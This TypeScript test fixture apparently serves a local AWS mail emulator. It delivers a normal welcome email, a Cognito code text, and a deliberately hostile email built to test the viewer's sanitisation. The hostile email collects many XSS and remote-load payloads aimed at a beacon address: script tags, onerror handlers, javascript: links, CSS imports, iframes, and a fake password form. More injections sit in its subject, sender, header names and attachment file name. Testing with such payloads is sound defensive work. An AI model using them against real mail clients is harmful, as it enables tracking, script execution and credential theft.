import type { LocalAws } from "@foyer/local";

const picture = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" width="120" height="32"><rect width="32" height="32" rx="8" fill="#4f46e5"/><text x="42" y="23" font-family="sans-serif" font-size="20" font-weight="bold" fill="#4f46e5">Acme</text></svg>',
);

/** A mail as a company sends it: its styles know both themes, its logo is attached. @returns its message id */
export function deliverWelcome(local: LocalAws, to: string): string {
  const html = `<!doctype html><html><head><meta name="viewport" content="width=device-width"><meta name="color-scheme" content="light dark"><style>
    body { margin: 0; background: #f4f4f2; color: #1a1a18; font: 16px/1.6 Arial, sans-serif } .sheet { max-width: 560px; margin: 0 auto; padding: 32px; background: #fff }
    .button { display: inline-block; padding: 12px 24px; border-radius: 8px; background: #4f46e5; color: #fff; text-decoration: none; font-weight: bold } small { color: #696762 }
    @media (prefers-color-scheme: dark) { body { background: #0e0f11; color: #edeeef } .sheet { background: #1b1e22 } small { color: #8f949b } }
    @media (max-width: 480px) { .sheet { padding: 20px } .button { display: block; text-align: center } }
    </style></head><body><div class="sheet"><img src="cid:logo@acme" alt="Acme" width="120" height="32"><h1>Welcome to Acme, Ada</h1>
    <p>Your account is ready. Three things that people do on their first day: import a project, invite a colleague, pick a plan.</p>
    <p><a class="button" href="https://acme.example/start">Start your first project</a></p><p><small>You get this mail as you signed up at <a href="https://acme.example">acme.example</a>.</small></p></div></body></html>`;
  return local.inbox.deliver({
    from: "Acme <hello@acme.com>",
    to: [to],
    replyTo: ["support@acme.com"],
    subject: "Welcome to Acme",
    html,
    text: "Welcome to Acme, Ada.\n\nYour account is ready: https://acme.example/start",
    headers: [
      { name: "List-Unsubscribe", value: "<https://acme.example/unsubscribe>" },
      { name: "X-Entity-Ref-ID", value: "welcome-1" },
    ],
    attachments: [
      { name: "logo.svg", type: "image/svg+xml", content: picture, contentId: "logo@acme" },
      { name: "Terms of service.pdf", type: "application/pdf", content: Buffer.from("%PDF-1.4\n%%EOF\n") },
    ],
    tags: { step: "welcome" },
    via: "ses",
  });
}

/** A mail that tries what a mail can try, to reach `beacon`, an address of somebody else. @returns its message id */
export function deliverHostile(local: LocalAws, beacon: string): string {
  const html = `<html><head><link rel="preconnect" href="${beacon}/preconnect"><link/rel="stylesheet" href="${beacon}/style.css"><LINK
    rel="prefetch" href="${beacon}/prefetch"><base href="${beacon}/base/"><meta http-equiv="refresh" content="0; url=${beacon}/refresh">
    <meta http-equiv="content-security-policy" content="default-src *"><style>@import url("${beacon}/import.css"); body { background: url("${beacon}/background.png") }
    @font-face { font-family: f; src: url("${beacon}/font.woff2") } p { font-family: f; content: url("${beacon}/content.png"); cursor: url("${beacon}/cursor.cur"), auto }</style></head>
    <body onload="fetch('${beacon}/onload')" background="${beacon}/body.png"><script>parent.document.title = "owned"; top.location = "${beacon}/script"; fetch("${beacon}/fetch")</script>
    <script src="${beacon}/script.js"></script><img src="${beacon}/image.png" onerror="parent.postMessage('owned','*'); document.title='owned'"><img src=x srcset="${beacon}/srcset.png 1x" onerror="top.owned = true">
    <p style="background: url(${beacon}/inline.png)">Dear customer</p><svg><script>top.owned = true</script><image href="${beacon}/svg.png" /><use href="${beacon}/use.svg#a" /></svg>
    <form action="${beacon}/form" method="post"><input name="password" value="x"><button id="send">Sign in</button></form><a id="top" href="${beacon}/top" target="_top">Claim</a>
    <a id="self" href="${beacon}/self" ping="${beacon}/ping">Here</a><a id="blank" href="${beacon}/blank" target="_blank">There</a><a id="script" href="javascript:top.owned = true">Run</a>
    <iframe src="${beacon}/frame"></iframe><iframe srcdoc="<script>top.owned = true</script><img src='${beacon}/srcdoc.png'>"></iframe><object data="${beacon}/object"></object><embed src="${beacon}/embed">
    <video src="${beacon}/video" poster="${beacon}/poster.png" autoplay></video><audio src="${beacon}/audio" autoplay></audio><input type="image" src="${beacon}/input.png"><math><mtext><img src="${beacon}/math.png"></mtext></math></body></html>`;
  const name = `"><img src=x onerror=alert(1)>.html`;
  return local.inbox.deliver({
    from: `<script>top.owned = true</script> <eve@evil.example>`,
    to: ["ada@example.com"],
    subject: `<img src=x onerror="top.owned = true">You won`,
    html,
    headers: [{ name: "X-<b>", value: "<script>top.owned = true</script>" }],
    attachments: [{ name, type: "text/html", content: Buffer.from("<script>top.owned = true</script>") }],
    via: "ses",
  });
}

/** A text message of Cognito with a code. @returns its message id */
export function deliverText(local: LocalAws, to: string, code: string): string {
  return local.inbox.deliver({
    from: "NOTICE",
    to: [to],
    subject: "",
    text: `Your authentication code is ${code}.`,
    via: "cognito",
  });
}
